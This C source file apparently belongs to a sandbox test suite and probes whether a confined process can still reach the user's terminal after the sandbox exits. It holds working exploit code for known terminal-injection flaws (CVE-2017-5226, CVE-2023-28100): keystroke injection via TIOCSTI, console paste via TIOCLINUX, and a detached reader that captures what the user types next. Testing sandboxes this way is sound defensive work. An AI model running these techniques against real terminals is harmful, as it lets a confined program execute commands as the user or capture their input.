/* The user's terminal: what reaches its input after the box has ended (TIOCSTI(2const), CVE-2017-5226; TIOCLINUX(2const),
 * CVE-2023-28100), who reads it then, and what reaches its screen. Sessions of these probes run on a pseudo-terminal whose outer
 * half (pty.c) is the witness. */
#include "probe.h"

#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

enum { TIOCL_SETSEL = 2, TIOCL_PASTESEL = 3, THIEF_SECONDS = 15 };

/* Every way to the terminal that this process has; returns how many. */
static int terminals(int ret_fds[4]) {
  int count = 0, own = open("/dev/tty", O_RDWR | O_NOCTTY);
  if (own >= 0) ret_fds[count++] = own;
  for (int fd = 0; fd <= 2; fd++)
    if (isatty(fd)) ret_fds[count++] = fd;
  return count;
}

static bool push(int fd, const char *text) {
  for (; *text; text++)
    if (ioctl(fd, TIOCSTI, text) < 0) return false;
  return true;
}

/* push-input TEXT: asked as the last request, as else serve.c would read it itself */
static int run_push_input(int argc, char **argv) {
  int fds[4], count = terminals(fds);
  if (argc != 1) return 2;
  for (int i = 0; i < count; i++)
    if (push(fds[i], argv[0])) return 0;
  return refused();
}

struct selection {
  char operation;
  unsigned short from_column, from_row, to_column, to_row, mode;
} __attribute__((packed));

/* paste-console TEXT: shows it on the virtual console, selects it, and pastes it into the input */
static int run_paste_console(int argc, char **argv) {
  int fds[4], count = terminals(fds);
  if (argc != 1) return 2;
  for (int i = 0; i < count; i++) {
    struct selection all = {TIOCL_SETSEL, 1, 1, (unsigned short)strlen(argv[0]), 1, 0};
    char paste = TIOCL_PASTESEL, shift = 6 /* asks for the shift state: only a virtual console has one */;
    if (ioctl(fds[i], TIOCLINUX, &shift) < 0) continue;
    dprintf(fds[i], "\x1b[H%s", argv[0]);
    if (ioctl(fds[i], TIOCLINUX, &all) == 0 && ioctl(fds[i], TIOCLINUX, &paste) == 0) return 0;
  }
  return refused();
}

/* A descriptor of the process tells of its end also where nobody has waited for it yet; a filter may refuse one. */
static void wait_for_end(pid_t pid) {
  struct pollfd end = {(int)syscall(434 /* pidfd_open */, pid, 0), POLLIN, 0};
  if (end.fd >= 0 && poll(&end, 1, THIEF_SECONDS * 1000) >= 0) return;
  while (kill(pid, 0) == 0) usleep(20000);
}

/* Waits for the end of the box' command, then reads what the user types, and shows it. */
_Noreturn static void steal(pid_t served, int fd) {
  char text[128];
  size_t length = 0;
  alarm(THIEF_SECONDS);
  wait_for_end(served);
  while (length + 1 < sizeof text && read(fd, text + length, 1) == 1 && text[length] != '\n' && text[length] != '\r') length++;
  dprintf(fd, "\r\nstolen %.*s\r\n", (int)length, text);
  _exit(0);
}

/* keep-reading: in a session of its own no job control keeps it from the terminal, nor is it ended with it (setsid(2)) */
static int run_keep_reading(int argc, char **argv) {
  (void)argc, (void)argv;
  int fds[4], count = terminals(fds);
  pid_t served = getppid();
  if (count == 0) return tell("no terminal"), 1;
  tell("waiting");
  pid_t pid = fork();
  if (pid != 0) return pid < 0 ? refused() : 0;
  setsid();
  signal(SIGHUP, SIG_IGN);
  int fd = fcntl(fds[count - 1], F_DUPFD, 3);
  close(0), close(1);
  steal(served, fd);
}

/* show TEXT: onto the terminal as it is, on a line of its own as the requests share it */
static int run_show(int argc, char **argv) {
  int fds[4], count = terminals(fds);
  if (argc != 1) return 2;
  if (count == 0) return tell("no terminal"), 1;
  dprintf(fds[count - 1], "\r\n%s\r\n", argv[0]);
  return 0;
}

const struct verb terminal_verbs[] = {{"push-input", run_push_input},
                                      {"paste-console", run_paste_console},
                                      {"keep-reading", run_keep_reading},
                                      {"show", run_show},
                                      {NULL, NULL}};
